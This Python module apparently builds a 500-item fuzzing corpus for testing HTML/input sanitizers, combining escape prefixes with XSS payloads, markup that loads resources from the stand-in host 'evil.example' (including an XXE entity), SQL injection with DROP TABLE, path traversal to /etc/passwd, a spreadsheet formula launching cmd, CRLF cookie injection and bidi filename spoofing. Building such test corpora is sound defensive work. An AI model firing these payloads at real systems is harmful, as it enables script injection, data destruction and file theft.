"""Five hundred strings that want to run, to fetch or to break something: ways out of where they stand, times deeds."""

from itertools import product

CALL = "alert(1)"  # what a test listens for
ELSEWHERE = "//evil.example"  # what a test must never see asked for
WAYS_OUT = ("", '">', "'>", "</textarea></title>", "-->]]>", "`}}", "\\", '" ', "</script></style></svg>", "&quot;&gt;")
RUNNING = (
    f"<script>{CALL}</script>",
    f"<ScRiPt/x>{CALL}</sCrIpT >",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x:x oNeRrOr={CALL}//",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<iframe src=javascript:{CALL}>",
    f"<object data=javascript:{CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"onmouseover={CALL} autofocus onfocus={CALL} x=",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"[x](javascript:{CALL})",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
)
FETCHING = (
    f"<img src={ELSEWHERE}/x.png>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<link rel=preload as=image href={ELSEWHERE}/p.png>",
    f"<style>@import '{ELSEWHERE}/i.css';</style>",
    f"<p style='background:url({ELSEWHERE}/b.png)'>x</p>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<embed src={ELSEWHERE}/x>",
    f"<video poster={ELSEWHERE}/v.png></video>",
    f"<svg><image href={ELSEWHERE}/s.png /></svg>",
    f"<table background={ELSEWHERE}/t.png><tr><td>x</table>",
    f"![x]({ELSEWHERE}/m.png)",
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "{ELSEWHERE}">]>&e;',
)
BREAKING = (
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${7*7}#{7*7}%s%n%(x)s{0.__class__}",
    "' OR 1=1; DROP TABLE response; --",
    "../../../../etc/passwd",
    "=HYPERLINK(1)+cmd|'/C calc'!A0",
    "\r\nSet-Cookie: sign-in=1\r\n\r\n<img>",
    "\x00\x1b[2J\x07",
    "\u202e\u2066txt.exe\u2069\ufeff\u200b",
    "\U0001f600\u0301\u0489 \ud7ff\ufffe",
    "9" * 23,
    "[" * 90,
    "x" * 300,
)
HOSTILE = tuple(way_out + deed for way_out, deed in product(WAYS_OUT, (*RUNNING, *FETCHING, *BREAKING)))
assert len(set(HOSTILE)) == len(HOSTILE) == 500
